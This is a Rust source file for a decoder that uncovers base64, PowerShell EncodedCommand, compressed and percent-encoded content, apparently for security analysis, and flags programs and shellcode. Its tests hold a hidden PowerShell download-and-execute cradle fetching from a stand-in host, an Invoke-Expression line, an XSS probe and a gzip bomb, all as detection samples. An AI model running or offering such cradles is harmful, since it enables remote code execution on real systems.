//! Text that hides in text: base64, the UTF-16 of PowerShell's `-EncodedCommand`, compressed bytes, percent signs.
//! What is decoded is data like the rest: nothing runs, and it is made harmless where it is shown.

use std::io::Read as _;
use std::ops::Range;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Bytes that are decoded at most; the rest is left out, and that is said.
const MAX_BYTES: usize = 256 * 1024;
/// How often what was decoded is decoded again.
const MAX_LAYERS: usize = 4;
/// A piece of base64 without anything that announces it is at least this long.
const MIN_PIECE: usize = 24;
/// The same behind `-enc` and its like.
const MIN_ANNOUNCED: usize = 8;
/// Pieces of one text that are decoded.
const MAX_PIECES: usize = 8;

/// What was found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    /// Where it stood.
    pub span: Range<usize>,
    /// How it was read, outermost first: `base64, UTF-16`.
    pub how: String,
    pub text: String,
    /// There is more than was decoded.
    pub is_cut: bool,
}

/// Finds what hides in a text, in the order in which it stands there.
pub fn decode(text: &str) -> Vec<Decoded> {
    let text = &text[..text.floor_char_boundary(4 * MAX_BYTES)];
    let mut found: Vec<Decoded> = pieces(text).filter_map(|it| decode_piece(text, it)).take(MAX_PIECES).collect();
    if found.is_empty() {
        found.extend(percent(text));
    }
    found
}

/// What stands in base64's letters, long enough.
fn pieces(text: &str) -> impl Iterator<Item = Range<usize>> {
    let is_letter = |it: u8| it.is_ascii_alphanumeric() || matches!(it, b'+' | b'/' | b'-' | b'_');
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < bytes.len() {
            let start = at + bytes[at..].iter().position(|it| is_letter(*it))?;
            let length = bytes[start..].iter().take_while(|it| is_letter(**it)).count();
            let padding = bytes[start + length..].iter().take_while(|it| **it == b'=').count().min(2);
            at = start + length + padding;
            let least = if is_announced(&text[..start]) { MIN_ANNOUNCED } else { MIN_PIECE };
            if length + padding >= least {
                return Some(start..at);
            }
        }
        None
    })
}

/// True behind PowerShell's `-EncodedCommand`, in any of its short forms, and behind `FromBase64String`.
fn is_announced(before: &str) -> bool {
    let head = &before[before.floor_char_boundary(before.len().saturating_sub(40))..];
    let head = head.trim_end_matches(['"', '\'', '(', ' ', ':']);
    let word = head.rsplit([' ', '\t', '[', ']', '.', ';']).next().unwrap_or_default().to_ascii_lowercase();
    let option = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}']);
    option.is_some_and(|it| matches!(it, "e" | "ec") || it.len() > 1 && "encodedcommand".starts_with(it))
        || word.ends_with("frombase64string")
        || word.ends_with("base64")
}

fn decode_piece(text: &str, span: Range<usize>) -> Option<Decoded> {
    let piece = &text[span.clone()];
    let announced = is_announced(&text[..span.start]);
    if piece.bytes().all(|it| it.is_ascii_hexdigit() || it == b'-') && !announced {
        // Hashes and GUIDs are in base64's letters, too.
        return None;
    }
    let (bytes, mut is_cut) = base64_bytes(piece)?;
    let mut how = "base64".to_owned();
    let mut text = read(&bytes, &mut how, &mut is_cut, announced)?;
    for _ in 1..MAX_LAYERS {
        let Some(inner) = whole(&text) else { break };
        let mut inner_how = "base64".to_owned();
        let Some(read) = read(&inner.0, &mut inner_how, &mut is_cut, false) else { break };
        how.push_str(", then ");
        how.push_str(&inner_how);
        is_cut |= inner.1;
        text = read;
    }
    Some(Decoded { span, how, text, is_cut })
}

/// The bytes of a text that is base64 and nothing else.
fn whole(text: &str) -> Option<(Vec<u8>, bool)> {
    let text = text.trim();
    let only = pieces(text).next().is_some_and(|it| it == (0..text.len()));
    let is_hex = text.bytes().all(|it| it.is_ascii_hexdigit());
    if only && !is_hex { base64_bytes(text) } else { None }
}

/// True when it was cut.
fn base64_bytes(piece: &str) -> Option<(Vec<u8>, bool)> {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let alphabet = if piece.contains(['-', '_']) { &alphabet::URL_SAFE } else { &alphabet::STANDARD };
    let longest = MAX_BYTES / 3 * 4;
    let is_cut = piece.len() > longest;
    let piece = if is_cut { &piece[..longest] } else { piece };
    // One letter more than whole bytes need is what a cut command line leaves.
    let letters = piece.trim_end_matches('=');
    let letters = if letters.len() % 4 == 1 { &letters[..letters.len() - 1] } else { letters };
    GeneralPurpose::new(alphabet, config).decode(letters).ok().map(|it| (it, is_cut))
}

/// Bytes as text, if they are any; `how` is told how.
fn read(bytes: &[u8], how: &mut String, is_cut: &mut bool, announced: bool) -> Option<String> {
    if let Some((unpacked, kind)) = unpack(bytes, is_cut) {
        how.push_str(", ");
        how.push_str(kind);
        return text_of(&unpacked, how).or_else(|| Some(binary(&unpacked, how)));
    }
    if let Some(text) = text_of(bytes, how) {
        return Some(text);
    }
    // What was announced, or begins as a program does, is worth a word even when it is no text.
    let is_program = bytes.starts_with(b"MZ\x90") || bytes.starts_with(b"\x7FELF");
    (announced && bytes.len() >= 6 || is_program).then(|| binary(bytes, how))
}

fn unpack(bytes: &[u8], is_cut: &mut bool) -> Option<(Vec<u8>, &'static str)> {
    let mut out = Vec::new();
    let limit = MAX_BYTES as u64 + 1;
    let kind = if bytes.starts_with(&[0x1F, 0x8B, 0x08]) {
        let _ = flate2::read::GzDecoder::new(bytes).take(limit).read_to_end(&mut out);
        "gzip"
    } else if bytes.len() > 8 && bytes[0] == 0x78 && matches!(bytes[1], 0x01 | 0x9C | 0xDA) {
        let _ = flate2::read::ZlibDecoder::new(bytes).take(limit).read_to_end(&mut out);
        "zlib"
    } else if bytes.len() > 16 && text_of(bytes, &mut String::new()).is_none() {
        // Raw deflate has no mark of its own: only what is text afterwards is taken for it.
        flate2::read::DeflateDecoder::new(bytes).take(limit).read_to_end(&mut out).ok()?;
        text_of(&out, &mut String::new())?;
        "deflate"
    } else {
        return None;
    };
    if out.len() > MAX_BYTES {
        out.truncate(MAX_BYTES);
        *is_cut = true;
    }
    (!out.is_empty()).then_some((out, kind))
}

/// Text that a person could have written.
fn text_of(bytes: &[u8], how: &mut String) -> Option<String> {
    if let Some(text) = utf16(bytes) {
        how.push_str(", UTF-16");
        return Some(text);
    }
    let text = std::str::from_utf8(bytes).or_else(|error| {
        // The cut of a long text may stand within a character.
        let valid = error.valid_up_to();
        if bytes.len() - valid < 4 && valid > 16 { std::str::from_utf8(&bytes[..valid]) } else { Err(error) }
    });
    text.ok().filter(|it| is_readable(it)).map(|it| it.trim_start_matches('\u{FEFF}').to_owned())
}

/// Little-endian UTF-16 of mostly western text, or with a byte order mark.
fn utf16(bytes: &[u8]) -> Option<String> {
    let marked = bytes.starts_with(&[0xFF, 0xFE]);
    let bytes = if marked { &bytes[2..] } else { bytes };
    let pairs = bytes.len() / 2;
    let n_western = bytes.chunks_exact(2).filter(|it| it[1] == 0 && it[0] != 0).count();
    if pairs < 3 || !marked && n_western * 10 < pairs * 8 {
        return None;
    }
    let units = bytes.chunks_exact(2).map(|it| u16::from_le_bytes([it[0], it[1]]));
    let text: String = char::decode_utf16(units).map(|it| it.unwrap_or(char::REPLACEMENT_CHARACTER)).collect();
    is_readable(&text).then_some(text)
}

fn is_readable(text: &str) -> bool {
    let is_odd = |it: &char| {
        it.is_control() && !matches!(it, '\n' | '\r' | '\t')
            || *it == char::REPLACEMENT_CHARACTER
            || ('\u{E000}'..='\u{F8FF}').contains(it)
    };
    let n_odd = text.chars().filter(is_odd).count();
    text.chars().count() >= 4 && n_odd * 50 <= text.chars().count()
}

/// What bytes that are no text begin with.
fn binary(bytes: &[u8], how: &mut String) -> String {
    let what = match bytes {
        [b'M', b'Z', ..] => "a Windows program",
        [0x7F, b'E', b'L', b'F', ..] => "a Linux program",
        [b'P', b'K', 3, 4, ..] => "a ZIP archive",
        [b'%', b'P', b'D', b'F', ..] => "a PDF",
        // How a loader of shellcode begins: clear the direction flag, align the stack, or call over data.
        [0xFC, 0x48 | 0xE8, ..] => "as shellcode begins",
        _ => "no text",
    };
    how.push_str(", binary");
    let shown: Vec<String> = bytes.iter().take(16).map(|it| format!("{it:02x}")).collect();
    let more = if bytes.len() > 16 { " …" } else { "" };
    format!("{} bytes, {what}: {}{more}", bytes.len(), shown.join(" "))
}

/// A text of which much is written with percent signs.
fn percent(text: &str) -> Option<Decoded> {
    let bytes = text.as_bytes();
    let hex = |at: usize| bytes.get(at).and_then(|it| char::from(*it).to_digit(16));
    let mut out = Vec::with_capacity(bytes.len());
    let (mut at, mut n_decoded) = (0, 0);
    while at < bytes.len() {
        if let (b'%', Some(high), Some(low)) = (bytes[at], hex(at + 1), hex(at + 2)) {
            out.push((high * 16 + low) as u8);
            n_decoded += 1;
            at += 3;
        } else {
            out.push(bytes[at]);
            at += 1;
        }
    }
    if n_decoded < 3 {
        return None;
    }
    let is_cut = out.len() > MAX_BYTES;
    out.truncate(MAX_BYTES);
    let decoded = String::from_utf8(out).ok().filter(|it| is_readable(it))?;
    Some(Decoded { span: 0..text.len(), how: "percent".to_owned(), text: decoded, is_cut })
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::prelude::BASE64_STANDARD;
    use std::io::Write as _;

    fn of_utf16(text: &str) -> String {
        BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    fn only(text: &str) -> (String, String) {
        let found = decode(text);
        assert_eq!(found.len(), 1, "{text}: {found:?}");
        (found[0].how.clone(), found[0].text.clone())
    }

    #[test]
    fn the_command_of_powershell_is_read() {
        let inner = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/a')";
        for option in ["-enc", "-e", "-EncodedCommand", "/ec", "-eNcO"] {
            let line = format!("powershell -nop -w hidden {option} {}", of_utf16(inner));
            assert_eq!(only(&line), ("base64, UTF-16".to_owned(), inner.to_owned()));
        }
        // A command line that was cut in the middle still says most of it.
        let line = format!("powershell -enc {}", &of_utf16(inner)[..61]);
        assert!(only(&line).1.starts_with("IEX (New-Object Net"));
    }

    #[test]
    fn layers_are_taken_off_one_by_one() {
        let inner = "Invoke-Expression $env:payload # nothing";
        let twice = of_utf16(&BASE64_STANDARD.encode(inner));
        assert_eq!(
            only(&format!("powershell -e {twice}")),
            ("base64, UTF-16, then base64".to_owned(), inner.to_owned())
        );
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(inner.repeat(3).as_bytes()).unwrap();
        let packed = BASE64_STANDARD.encode(packer.finish().unwrap());
        let line = format!("[Convert]::FromBase64String('{packed}')");
        assert_eq!(only(&line), ("base64, gzip".to_owned(), inner.repeat(3)));
    }

    #[test]
    fn what_is_not_hidden_is_left_alone() {
        for text in [
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "/usr/lib/systemd/systemd-networkd-wait-online",
            "ThisIsALongNameOfSomethingInCamelCase",
            "74be27de-1e4e-49d9-b579-fe0b331d3642",
            "100% sure, 20% of 30%",
            "",
        ] {
            assert_eq!(decode(text), [], "{text}");
        }
        assert_eq!(
            only("http://x.example/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").1,
            "http://x.example/?q=<script>alert(1)</script>"
        );
    }

    #[test]
    fn programs_are_named_and_bombs_are_cut() {
        let program = BASE64_STANDARD.encode([b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF".as_slice(), &[0; 64]].concat());
        assert!(only(&program).1.contains("a Windows program: 4d 5a 90"));
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(&vec![b'a'; 50_000_000]).unwrap();
        let bomb = BASE64_STANDARD.encode(packer.finish().unwrap());
        let found = decode(&bomb);
        assert!(found[0].is_cut && found[0].text.len() == MAX_BYTES);
    }
}
